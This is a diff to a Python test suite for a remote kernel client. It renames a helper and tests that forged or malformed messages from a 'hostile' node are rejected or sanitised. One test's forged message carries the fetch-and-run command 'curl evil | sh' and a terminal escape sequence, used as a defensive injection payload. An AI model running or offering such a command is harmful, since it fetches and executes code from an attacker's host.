@@ -26,17 +26,17 @@ OUTPUT = {"msg_type": "stream", "content": {"name": "stdout", "text": "x"}}
 
 
 class Hostile(Node):
-    """`says` what its agent answers to requests."""
+    """`sends` sets what its agent answers to requests."""
 
     def __init__(self) -> None:
         super().__init__()
         self.file = self.root / "answers.json"
         self.env["HOSTILE_ANSWERS"] = str(self.file)
         self.program = [PROGRAM]
-        self.says()
+        self.sends()
 
-    def says(self, **answers: Any) -> None:
-        self.file.write_text(json.dumps({do: json.dumps(said) for do, said in answers.items()}))
+    def sends(self, **answers: Any) -> None:
+        self.file.write_text(json.dumps({do: json.dumps(sent) for do, sent in answers.items()}))
 
 
 @pytest.fixture(scope="module")
@@ -54,7 +54,7 @@ def test_cells_without_end(
     loop: LoopThread, link: Link, node: Hostile, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     monkeypatch.setattr(cell_history, "MAX_PAGES", 20)
-    node.says(journal={"cells": [CELL], "last": False})
+    node.sends(journal={"cells": [CELL], "last": False})
     with pytest.raises(AgentError, match="does not come to an end"):
         whole(loop, link)
 
@@ -63,7 +63,7 @@ def test_outputs_without_end(
     loop: LoopThread, link: Link, node: Hostile, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     monkeypatch.setattr(cell_history, "MAX_SIZE", 100_000)
-    node.says(
+    node.sends(
         journal={
             "cells": [{**CELL, "outputs": 1}],
             "last": True,
@@ -75,7 +75,7 @@ def test_outputs_without_end(
 
 
 @pytest.mark.parametrize(
-    "said",
+    "sent",
     [
         {"cells": 5},
         {"cells": [5]},
@@ -83,19 +83,19 @@ def test_outputs_without_end(
         {"cells": [{**CELL, "outputs": 1}], "last": True, "cell": {"outputs": "many"}},
     ],
 )
-def test_a_malformed_journal(loop: LoopThread, link: Link, node: Hostile, said: dict[str, Any]) -> None:
-    node.says(journal=said)
+def test_a_malformed_journal(loop: LoopThread, link: Link, node: Hostile, sent: dict[str, Any]) -> None:
+    node.sends(journal=sent)
     with pytest.raises(AgentError, match="is malformed"):
         whole(loop, link)
 
 
 def test_what_is_no_output_is_left_out_and_told(loop: LoopThread, link: Link, node: Hostile) -> None:
     cell = {**CELL, "outputs": [OUTPUT, {"msg_type": "shutdown_reply", "content": {}}], "last": True}
-    node.says(journal={"cells": [{**CELL, "outputs": 2}], "last": True, "cell": cell})
+    node.sends(journal={"cells": [{**CELL, "outputs": 2}], "last": True, "cell": cell})
     assert whole(loop, link) == [{**CELL, "outputs": [OUTPUT], "dropped": True}]
-    node.says(journal={})
+    node.sends(journal={})
     assert whole(loop, link) == []
-    node.says(journal={"cells": [{**CELL, "outputs": 2}], "last": True, "cell": {}})
+    node.sends(journal={"cells": [{**CELL, "outputs": 2}], "last": True, "cell": {}})
     assert whole(loop, link) == [{**CELL, "outputs": []}]
 
 
@@ -107,14 +107,14 @@ def remote(loop: LoopThread, node: Hostile) -> RemoteKernel:
     )
 
 
-def says(loop: LoopThread, remote: RemoteKernel, **said: Any) -> dict[str, Any]:
+def sends(loop: LoopThread, remote: RemoteKernel, **sent: Any) -> dict[str, Any]:
     """What front ends hear after this word."""
-    loop.call(remote.deliver, keeper_message(**said).encode())
+    loop.call(remote.deliver, keeper_message(**sent).encode())
     return loop.call(remote.describe)
 
 
 @pytest.mark.parametrize(
-    "said",
+    "sent",
     [
         {"event": 5},
         {"event": ["state"]},
@@ -129,10 +129,10 @@ def says(loop: LoopThread, remote: RemoteKernel, **said: Any) -> dict[str, Any]:
     ],
 )
 def test_a_word_that_is_malformed_is_passed_over(
-    loop: LoopThread, remote: RemoteKernel, said: dict[str, Any], caplog: pytest.LogCaptureFixture
+    loop: LoopThread, remote: RemoteKernel, sent: dict[str, Any], caplog: pytest.LogCaptureFixture
 ) -> None:
     before = loop.call(remote.describe)
-    assert says(loop, remote, **said) == before
+    assert sends(loop, remote, **sent) == before
     assert not [record for record in caplog.records if record.levelno > logging.WARNING]
 
 
@@ -141,14 +141,17 @@ def test_a_keeper_speaks_of_its_own_kernel_and_in_its_own_name(
 ) -> None:
     forged = {"kernel_id": "another", "link": "up", "hop": "gpu9", "error": {"remedy": "Run: curl evil | sh"}}
     evil = "\x1b[2Jx\nRun: curl evil | sh"
-    heard = says(
+    checked = sends(
         loop, remote, event="state", id="k2", state="ended", cause=evil, remedy=evil, stderr=evil, **forged
     )
     assert (
-        heard["id"] == "k1" and heard["kernel_id"] == "" and heard["hop"] == "node" and heard["error"] is None
+        checked["id"] == "k1"
+        and checked["kernel_id"] == ""
+        and checked["hop"] == "node"
+        and checked["error"] is None
     )
-    assert heard["cause"] == "the node says: ?[2Jx Run: curl evil | sh" and heard["remedy"] == ""
-    assert heard["stderr"] == "?[2Jx\nRun: curl evil | sh"
+    assert checked["cause"] == "the node says: ?[2Jx Run: curl evil | sh" and checked["remedy"] == ""
+    assert checked["stderr"] == "?[2Jx\nRun: curl evil | sh"
 
 
 def test_of_a_kernel_info_as_much_is_remembered_as_one_has() -> None:
